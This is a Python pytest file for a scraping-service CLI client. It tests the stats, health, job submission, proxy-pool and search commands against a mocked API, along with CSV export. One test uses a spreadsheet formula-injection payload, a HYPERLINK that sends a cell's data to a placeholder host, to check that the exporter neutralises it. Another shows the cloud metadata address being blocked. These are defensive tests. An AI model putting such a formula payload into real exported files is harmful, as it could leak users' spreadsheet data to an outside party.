"""CLI commands whose server side is not in this branch yet (stats, health, submit's priority and
webhook), on a client over httpx.MockTransport; and the CSV writer's columns."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import httpx
import pytest
from typer.testing import CliRunner, Result

from scrapejobs_client import NO_RETRIES, Client, TaskResult
from scrapejobs_client.cli import CliState, ExitCode, app
from scrapejobs_client.cli.results_output import CsvWriter
from support.api_samples import HISTORY, JOB, STATS


class MockApi:
    """Answers by path; records what the CLI sent."""

    def __init__(self, answers: dict[str, httpx.Response]) -> None:
        self.answers = answers
        self.requests: list[httpx.Request] = []

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        return self.answers[request.url.path]

    def run(self, *args: str) -> Result:
        state = CliState(
            client_factory=lambda config: Client(
                config.api_url, transport=httpx.MockTransport(self), retry=NO_RETRIES
            )
        )
        return CliRunner().invoke(app, list(args), obj=state, env={"COLUMNS": "200"})


def test_stats_table_and_json() -> None:
    api = MockApi({"/v1/stats": httpx.Response(200, json=STATS)})

    shown = api.run("stats", "--window", "1h")

    assert shown.exit_code == 0, shown.output
    assert api.requests[0].url.params["window"] == "1h"
    for text in (
        "12.50/s",
        "5.0%",
        "succeeded 90",
        "https~shop.test~443",
        "breaker",
        "p50 31 ms",
        "challenge 2 · empty_content 1",
        "basic 40 · stealth 2",
        "proxy socks5://10.0.0.7:1080",
        "42 served · 1 failed",
    ):
        assert text in shown.stdout
    assert "12 model calls (3 reused) · 40210 tokens in, 1502 out · cost 0.0421" in shown.stdout
    as_json = api.run("stats", "--json")
    assert json.loads(as_json.stdout) == STATS


def test_stats_with_history() -> None:
    api = MockApi(
        {
            "/v1/stats": httpx.Response(200, json=STATS),
            "/v1/stats/history": httpx.Response(200, json=HISTORY),
        }
    )

    as_json = api.run("stats", "--history", "6", "--json")
    shown = api.run("stats", "--history", "6")

    assert json.loads(as_json.stdout)["history"] == HISTORY["history"]
    assert api.requests[1].url.params["hours"] == "6"
    assert "95.0%" in shown.stdout and "2026-01-01T00:00:00Z" in shown.stdout


@pytest.mark.parametrize(
    ("status", "http_status", "exit_code"),
    [
        ("HEALTHY", 200, ExitCode.OK),
        ("DEGRADED", 200, ExitCode.DEGRADED),
        ("UNHEALTHY", 503, ExitCode.UNHEALTHY),
    ],
)
def test_health_exit_codes(status: str, http_status: int, exit_code: ExitCode) -> None:
    body = {"status": status, "reasons": [f"reason for {status}"], "checks": {"pubsub": {"ok": 1}}}
    api = MockApi({"/v1/health": httpx.Response(http_status, json=body)})

    shown = api.run("health")
    as_json = api.run("health", "--json")

    assert shown.exit_code == exit_code and as_json.exit_code == exit_code
    assert status in shown.stdout and f"reason for {status}" in shown.stdout
    assert "pubsub" in shown.stdout
    assert json.loads(as_json.stdout) == body


def test_health_of_a_server_without_the_endpoint_is_an_error() -> None:
    api = MockApi({"/v1/health": httpx.Response(404, json={"error": {"message": "Not Found"}})})

    result = api.run("health")

    assert result.exit_code == ExitCode.ERROR
    assert "this API has no GET /v1/health (an older server?)" in result.stderr


def test_submit_sends_priority_and_webhook() -> None:
    api = MockApi({"/v1/jobs": httpx.Response(202, json=JOB)})

    result = api.run(
        "submit", "https://shop.test/1", "--priority", "high", "--webhook", "https://h.test/x"
    )

    assert result.exit_code == 0, result.output
    assert "submitted job j1 (1 tasks)" in result.stdout
    assert json.loads(api.requests[0].content) == {
        "urls": ["https://shop.test/1"],
        "priority": "high",
        "webhook": {"url": "https://h.test/x"},
    }
    assert api.run("submit", "https://shop.test/1", "--priority", "urgent").exit_code == 2


def test_submit_renders_only_what_needs_it_with_render_auto() -> None:
    api = MockApi({"/v1/jobs": httpx.Response(202, json=JOB)})

    assert api.run("submit", "https://shop.test/1", "--render-auto").exit_code == 0
    assert (
        api.run("submit", "https://shop.test/1", "--render-auto", "--wait-ms", "300").exit_code == 0
    )

    sent = [json.loads(r.content)["options"]["render"] for r in api.requests]
    assert sent == ["auto", {"wait_ms": 300, "when": "auto"}]


def test_submit_and_scrape_take_a_screenshot_and_actions(tmp_path) -> None:
    api = MockApi({"/v1/jobs": httpx.Response(202, json=JOB)})
    steps = tmp_path / "actions.yaml"
    steps.write_text("- {type: click, selector: '#more'}\n- {type: wait, milliseconds: 200}\n")

    assert api.run("submit", "https://shop.test/1", "--screenshot").exit_code == 0
    result = api.run("submit", "https://shop.test/1", "--actions", str(steps), "--wait-ms", "5")
    assert result.exit_code == 0, result.output
    first, second = (json.loads(r.content)["options"] for r in api.requests)
    assert first == {"formats": ["screenshot"]}  # the service renders it
    assert second["render"] == {
        "wait_ms": 5,
        "actions": [{"type": "click", "selector": "#more"}, {"type": "wait", "milliseconds": 200}],
    }
    mapping = tmp_path / "not-a-list.json"
    mapping.write_text('{"type": "click"}')
    refused = api.run("submit", "https://shop.test/1", "--actions", str(mapping))
    assert refused.exit_code == 2 and "must hold a list" in refused.output


def test_submit_asks_for_attributes_and_summary() -> None:
    api = MockApi({"/v1/jobs": httpx.Response(202, json=JOB)})

    args = ["--format", "summary", "--attribute", "a.story@href", "--attribute", "html@lang"]
    assert api.run("submit", "https://shop.test/1", *args).exit_code == 0
    assert json.loads(api.requests[0].content)["options"]["formats"] == [
        "summary",
        {
            "type": "attributes",
            "selectors": [
                {"selector": "a.story", "attribute": "href"},
                {"selector": "html", "attribute": "lang"},
            ],
        },
    ]
    refused = api.run("submit", "https://shop.test/1", "--attribute", "a.story")
    assert refused.exit_code == 2 and "SELECTOR@ATTRIBUTE" in refused.output
    assert len(api.requests) == 1


def result(n: int, data: dict[str, Any] | None) -> TaskResult:
    return TaskResult(id=f"t{n}", url=f"https://shop.test/{n}", status="succeeded", data=data)


def test_csv_columns_come_from_the_first_page_and_later_fields_are_kept() -> None:
    out = io.StringIO()
    writer = CsvWriter(out)

    writer.write_page([result(0, {"title": "A", "tags": ["x", "y"]}), result(1, None)])
    writer.write_page([result(2, {"title": "C", "price": 9.5, "ok": True})])

    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert list(rows[0])[-3:] == ["data.tags", "data.title", "data.other"]
    assert rows[0]["data.tags"] == '["x", "y"]' and rows[0]["data.other"] == ""
    assert rows[1]["data.title"] == "" and rows[1]["status"] == "succeeded"
    assert rows[2]["data.title"] == "C"
    assert json.loads(rows[2]["data.other"]) == {"price": 9.5, "ok": True}


def test_status_shows_what_the_ai_stage_used_and_cost() -> None:
    usage = {"calls": 4, "cached": 1, "input_tokens": 160, "output_tokens": 32, "cost": 0.00072}
    api = MockApi({"/v1/jobs/j1": httpx.Response(200, json=JOB | {"ai_usage": usage})})

    shown = api.run("status", "j1")

    assert shown.exit_code == 0, shown.output
    assert "4 model calls (1 reused) · 160 tokens in, 32 out · cost 0.00072" in shown.stdout
    assert (
        "ai stage"
        not in MockApi({"/v1/jobs/j1": httpx.Response(200, json=JOB)}).run("status", "j1").stdout
    )


def test_csv_cells_a_spreadsheet_would_run_as_formulas_stay_text() -> None:
    out = io.StringIO()
    title = '=HYPERLINK("https://x.example/?"&A1,"click")'
    CsvWriter(out).write_page([result(0, {"title": title, "n": -5, "at": "@me"})])
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["data.title"] == "'" + title and row["data.at"] == "'@me"
    assert row["data.n"] == "-5"


def test_proxies_shows_gives_and_takes_a_tenants_pool(tmp_path) -> None:
    listed = [{"proxy": "socks5://fr.example:1080", "country": "FR", "tier": "basic"}]
    own = {"tenant": "acme", "own_pool": True, "proxies": listed}
    api = MockApi({"/v1/tenants/acme/proxies": httpx.Response(200, json=own)})
    pool = tmp_path / "acme.json"
    pool.write_text(json.dumps(["socks5://acme:s3cret@fr.example:1080"]))

    given = api.run("proxies", "acme", "--file", str(pool))
    shown = api.run("proxies", "acme", "--json")
    taken = api.run("proxies", "acme", "--remove")

    assert given.exit_code == 0, given.output
    assert "acme: its own pool" in given.stdout and "socks5://fr.example:1080" in given.stdout
    assert "s3cret" not in given.stdout
    sent = json.loads(api.requests[0].content)
    assert api.requests[0].method == "PUT"
    assert sent == {"proxies": [{"url": "socks5://acme:s3cret@fr.example:1080"}]}
    assert json.loads(shown.stdout) == own and api.requests[1].method == "GET"
    assert taken.exit_code == 0 and api.requests[2].method == "DELETE"
    bad = tmp_path / "bad.json"
    bad.write_text("{")
    assert api.run("proxies", "acme", "--file", str(bad)).exit_code != 0


def test_search_lists_the_results_and_scrapes_them_when_asked() -> None:
    found = {
        "success": True,
        "data": {
            "web": [
                {"url": "https://a.example/", "title": "A", "position": 1, "markdown": "# A"},
                {
                    "url": "http://169.254.169.254/",
                    "title": "Inside",
                    "position": 2,
                    "metadata": {"error": "blocked_destination: a link-local address"},
                },
            ]
        },
        "warning": None,
        "creditsUsed": 2,
    }
    api = MockApi({"/v2/search": httpx.Response(200, json=found)})

    shown = api.run("search", "rust web", "--limit", "2", "--scrape", "--source", "web")
    as_json = api.run("search", "rust web", "--json")

    assert shown.exit_code == 0, shown.output
    assert json.loads(api.requests[0].content) == {
        "query": "rust web",
        "limit": 2,
        "sources": ["web"],
        "timeout": 60000,
        "scrapeOptions": {"formats": ["markdown"]},
    }
    assert "3 chars" in shown.stdout and "blocked_destination" in shown.stdout
    assert json.loads(as_json.stdout)["creditsUsed"] == 2
    assert "scrapeOptions" not in json.loads(api.requests[1].content)
